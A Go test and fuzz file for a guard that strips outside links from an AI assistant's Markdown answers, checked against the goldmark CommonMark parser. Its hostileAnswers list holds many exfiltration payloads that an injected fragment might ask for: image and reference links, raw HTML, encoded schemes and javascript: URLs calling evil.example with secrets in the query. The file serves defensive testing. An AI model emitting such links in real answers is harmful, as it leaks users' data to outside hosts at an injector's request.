package answer

import (
	"fmt"
	"strings"
	"testing"

	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/ast"
	"github.com/yuin/goldmark/extension"
	"github.com/yuin/goldmark/text"
	"golang.org/x/net/html"
)

// The guard reads Markdown its own way, as a stream; a client reads the
// answer with a Markdown library. These tests judge the guard's output
// by a conforming CommonMark parser with GitHub's extensions (goldmark:
// links, images, reference definitions, autolinks, www. links, raw
// HTML): whatever the guard let through must load or link nothing
// outside the allowed set as that parser reads it.

// hostileAnswers are answers an injected fragment may ask for, in every
// form the guard judges, and seeds for FuzzLinkGuardAgainstCommonMark.
var hostileAnswers = []string{
	"![chart][r]\n\n[r]: //evil.example/p.png?q=secret",
	"![x][r]\n\n[r]: <https://evil.example/p.png?q=SECRET>\n",
	"![x][r]\n\n[r]: <//evil.example/p.png?q=SECRET> \"t\"\n",
	"![x][r]\n\n   [r]:\n  <HTTPS://EVIL.EXAMPLE/P?q=1>\n",
	"![x][r]\n\n[r]: <https://evil.example/a b>\n",
	"[x][r]\n\n[r]: < javascript:alert(1)>\n",
	"![x][r]\n\n[r]: <https://evil.example/[x](z)>\n",
	"[r]:\n   https:evil.example/p \"t\"\n\n![x][r]",
	"![x](\n//evil.example/p.png) ok",
	"![a [b] c](https:evil.example/p)",
	"!![https://a.example](https://b.example)(https:evil.example/p)",
	"![x](<https://evil.example/a b>) and [y](<//evil.example/c>)",
	"![x](https://evil.example/&#x3F;q=1) ![y](&#104;ttps://evil.example/)",
	`![x](\/\/evil.example/p) [y](https\://evil.example/p)`,
	`<img src="//evil.example/a.png"> <a href=//evil.example>x</a>`,
	"<img\n  src=\"//evil.example/p\"\n  alt=\"x\">",
	"<div>\n<img src=\"https://evil.example/p\">\n</div>",
	`<img src="&#104;ttps://evil.example/p"> <span style="background:url(//evil.example)">x</span>`,
	"see www.evil.example/?q=SECRET and (WWW.EVIL.EXAMPLE/x) *www.evil.example*",
	"<https://evil.example/?q=1> <//evil.example> <javascript:alert(1)>",
	"fetch //evil.example/x?q=1 and https://evil.example/y and HTTPS://evil.example/z",
	"| a | b |\n|---|---|\n| ![x](https://evil.example/t) | [r] |\n\n[r]: <https://evil.example/u>",
	"> quote [r]\n>\n> [r]: <https://evil.example/q>\n\n- item\n\n  [s]: <//evil.example/l>\n  ![s]",
}

// guardSeeds are answers the guard must pass or judge without harm: the
// allowed links, prose that looks like a form, and what earlier fuzzing
// found.
var guardSeeds = []string{
	"see [the guide](https://docs.acme.example/sync) and //cdn.acme.example/chart.png.",
	"// a comment, a//b, and/or 3 // 4, x < y > z [S1]: Expense",
	"<img[ a](z) src=https:evil.example/p> htt[ps://evil.example](z) [x<](z)img src=//e>",
	"[r]: https:evil.example/p [](z)\n![x][r] ![a\nb](\n<https:evil>)",
	"](<img ](\nevil.example]:?q=1]?q=1]: ]src\\\\)docs.acme.example/sync",
	"![ftp://javascript:](<img https://\n)&#47;>>ht//cdn.acme.example/chart.png\n\n alt=//a\n",
	"' alt=:(htsrc\">![S1\">evil.example//](\\\\S1)//cdn.acme.example/chart.pngx ",
}

// commonMarkAllowed are the links the tests give the guard.
func commonMarkAllowed() AllowedLinks {
	allowed := AllowedLinks{}
	allowed.AddText("[the guide](https://docs.acme.example/sync) //cdn.acme.example/chart.png www.acme.example/docs")
	return allowed
}

func TestGuardedAnswersLoadNothingElseAsCommonMarkReadsThem(t *testing.T) {
	allowed := commonMarkAllowed()
	for _, answer := range hostileAnswers {
		// Unguarded, each names a host outside as CommonMark reads it.
		if len(outsideLinks(answer, allowed)) == 0 {
			t.Errorf("unguarded, %q links nothing outside: not a hostile answer", answer)
		}
		guarded, err := guardText(allowed, answer)
		if err != nil {
			t.Fatal(err)
		}
		if escapes := outsideLinks(guarded, allowed); len(escapes) > 0 {
			t.Errorf("guarded %q as %q: a CommonMark client still reads %q", answer, guarded, escapes)
		}
	}
}

// FuzzLinkGuardAgainstCommonMark: on any answer, what the guard lets
// through names no host outside the allowed set as goldmark reads it.
// go test ./internal/route/answer -run '^$' -fuzz FuzzLinkGuardAgainstCommonMark -fuzztime 120s
func FuzzLinkGuardAgainstCommonMark(f *testing.F) {
	for _, seed := range append(hostileAnswers, guardSeeds...) {
		f.Add(seed)
	}
	allowed := commonMarkAllowed()
	f.Fuzz(func(t *testing.T, answer string) {
		if len(answer) > maxLinkHold/2 {
			return // longer forms are judged as they are, by design
		}
		guarded, err := guardText(allowed, answer)
		if err != nil {
			t.Fatal(err)
		}
		if escapes := outsideLinks(guarded, allowed); len(escapes) > 0 {
			t.Fatalf("guarded %q as %q: a CommonMark client still reads %q", answer, guarded, escapes)
		}
	})
}

func TestTheCommonMarkCheckSeesEachForm(t *testing.T) {
	allowed := commonMarkAllowed()
	for _, answer := range []string{
		"![x](https://evil.example/p)",
		"[x][r]\n\n[r]: <https://evil.example/p>",
		"<https://evil.example/p>",
		"see www.evil.example/p",
		"see https://evil.example/p",
		`<img src="//evil.example/p">`,
		"<div>\n<img src=\"//evil.example/p\">\n</div>",
		`<span style="background:url(//evil.example)">x</span>`,
		"<iframe>x</iframe>",
		"[x](&#106;avascript:alert(1))",
	} {
		if len(outsideLinks(answer, allowed)) == 0 {
			t.Errorf("the check finds no link outside in %q", answer)
		}
	}
	for _, answer := range []string{
		"see [the guide](https://docs.acme.example/sync#top) and ![c](//cdn.acme.example/chart.png)",
		"[S1]: Expense policy applies. [a](relative/page.md) <b>bold</b> www.acme.example/docs",
	} {
		if escapes := outsideLinks(answer, allowed); len(escapes) > 0 {
			t.Errorf("the check finds %q outside in %q", escapes, answer)
		}
	}
}

// outsideLinks are the destinations a client that renders answer with
// goldmark (CommonMark and GFM) loads or links and the guard did not
// allow; and any raw HTML tag or attribute that loads by itself.
func outsideLinks(answer string, allowed AllowedLinks) []string {
	source := []byte(answer)
	md := goldmark.New(goldmark.WithExtensions(extension.GFM))
	doc := md.Parser().Parse(text.NewReader(source))
	var outside []string
	judge := func(dest string) {
		if namesAnotherHost(dest) && !allowed.Allows(dest) {
			outside = append(outside, dest)
		}
	}
	_ = ast.Walk(doc, func(n ast.Node, entering bool) (ast.WalkStatus, error) {
		if !entering {
			return ast.WalkContinue, nil
		}
		switch n := n.(type) {
		case *ast.Link:
			judge(decodeDestination(n.Destination))
		case *ast.Image:
			judge(decodeDestination(n.Destination))
		case *ast.AutoLink:
			judge(string(n.Label(source))) // as written: "www." links too

		case *ast.RawHTML:
			var raw strings.Builder
			for i := 0; i < n.Segments.Len(); i++ {
				seg := n.Segments.At(i)
				raw.Write(seg.Value(source))
			}
			outside = append(outside, loadingHTML(raw.String(), allowed)...)
		case *ast.HTMLBlock:
			var raw strings.Builder
			for i := 0; i < n.Lines().Len(); i++ {
				seg := n.Lines().At(i)
				raw.Write(seg.Value(source))
			}
			if n.HasClosure() {
				raw.Write(n.ClosureLine.Value(source))
			}
			outside = append(outside, loadingHTML(raw.String(), allowed)...)
		}
		return ast.WalkContinue, nil
	})
	return outside
}

// loadingHTML is what the start tags in raw load that allowed does not
// hold, as an HTML tokenizer reads them.
func loadingHTML(raw string, allowed AllowedLinks) []string {
	var outside []string
	z := html.NewTokenizer(strings.NewReader(raw))
	for {
		switch z.Next() {
		case html.ErrorToken:
			return outside
		case html.StartTagToken, html.SelfClosingTagToken:
			tok := z.Token()
			if loadingElements[tok.Data] {
				outside = append(outside, "<"+tok.Data+">")
			}
			for _, attr := range tok.Attr {
				switch {
				case loadingAttributes[attr.Key]:
					if namesAnotherHost(attr.Val) && !allowed.Allows(attr.Val) {
						outside = append(outside, attr.Val)
					}
				case attr.Key == "srcset", attr.Key == "style" && strings.Contains(attr.Val, "("),
					strings.HasPrefix(attr.Key, "on") && attr.Val != "":
					outside = append(outside, fmt.Sprintf("%s=%q", attr.Key, attr.Val))
				}
			}
		}
	}
}

// loadingAttributes hold a URL an element loads or links.
var loadingAttributes = map[string]bool{
	"src": true, "href": true, "background": true, "poster": true, "data": true, "action": true,
	"formaction": true, "ping": true, "lowsrc": true, "dynsrc": true, "xlink:href": true, "codebase": true,
}

// decodeDestination is a link destination as CommonMark gives it to the
// client: backslash escapes and entities decoded.
func decodeDestination(raw []byte) string {
	var b strings.Builder
	for i := 0; i < len(raw); i++ {
		if raw[i] == '\\' && i+1 < len(raw) && strings.IndexByte("!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~", raw[i+1]) >= 0 {
			i++
		}
		b.WriteByte(raw[i])
	}
	return html.UnescapeString(b.String())
}

// namesAnotherHost says whether a browser resolves dest (as the parser
// decoded it) away from the page's own site, as the WHATWG URL parser
// reads it: after the blanks and controls it drops, a scheme and more,
// two slashes or backslashes; or a www. link. It is the guard's oracle, so
// it shares none of the guard's code.
func namesAnotherHost(dest string) bool {
	dest = strings.TrimLeft(dest, " \t\r\n\f\x00")
	dest = strings.NewReplacer("\t", "", "\n", "", "\r", "", "\\", "/").Replace(strings.ToLower(dest))
	if strings.HasPrefix(dest, "//") || strings.HasPrefix(dest, "www.") {
		return true
	}
	colon := strings.IndexByte(dest, ':')
	if colon < 1 || colon == len(dest)-1 || dest[0] < 'a' || dest[0] > 'z' { // "a:" names nothing
		return false
	}
	for _, c := range dest[1:colon] {
		if (c < 'a' || c > 'z') && (c < '0' || c > '9') && c != '+' && c != '-' && c != '.' {
			return false
		}
	}
	return true
}
